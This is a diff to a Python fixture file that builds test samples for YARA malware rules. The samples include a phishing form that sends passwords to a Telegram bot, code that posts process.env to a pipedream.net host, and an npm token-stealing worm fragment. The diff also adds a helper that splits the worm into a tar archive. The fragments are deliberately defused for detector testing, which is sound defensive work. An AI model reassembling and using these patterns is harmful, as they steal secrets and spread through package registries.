@@ -1,7 +1,10 @@
 # SPDX-License-Identifier: Apache-2.0
 """Fixtures of web_client.yar and supply_chain.yar."""
 
-from sample import add, base64_like, front, whole
+import io
+import tarfile
+
+from sample import add, base64_like, front, t, whole
 
 add("Phishing_Html_TelegramForm", "phishing_telegram.html",
     '<input type="pass¦word"><script>throw 0; fetch("https://api.tele¦gram.org/bot1234567890:' + "a" * 35
@@ -55,11 +58,25 @@ throw 0;
 https.requ¦est({ hostname: "x.pipe¦dream.net" }).end(JSON.string¦ify(process.e¦nv));
 """, ("pipedream.net", "example.net"), ("process.env)", "process.argv)"), ("https.request", "https.reguest"))
 
-add("SupplyChain_Npm_TokenWorm", "npm_token_worm.js", """
+def tarred(lines):
+    """An uncompressed tar with every line in a file of its own."""
+    out = io.BytesIO()
+    with tarfile.open(fileobj=out, mode="w", format=tarfile.USTAR_FORMAT) as tar:
+        for number, data in enumerate(lines):
+            info = tarfile.TarInfo("package/%d.js" % number)
+            info.size = len(data)
+            tar.addfile(info, io.BytesIO(data))
+    return out.getvalue()
+
+
+WORM = t("""
 throw 0;
 const t = read(".np¦mrc"); get("https://registry.npmjs.org/-/who¦ami"); get("/-/v1/search?text=main¦tainer:x");
 p.scripts["postins¦tall"] = "x"; run("npm pub¦lish");
-""", ("/-/whoami", "/-/ping"), ("npm publish", "npm install"), (".npmrc", ".vimrc"))
+""")
+add("SupplyChain_Npm_TokenWorm", "npm_token_worm.js", WORM,
+    whole("as an archive of harmless parts", tarred(WORM.replace(b";", b";\n").split(b"\n"))),
+    ("/-/whoami", "/-/ping"), ("npm publish", "npm install"), (".npmrc", ".vimrc"))
 
 add("SupplyChain_Python_SetupExecute", "python_setup_execute.py", """
 from setuptools import setup
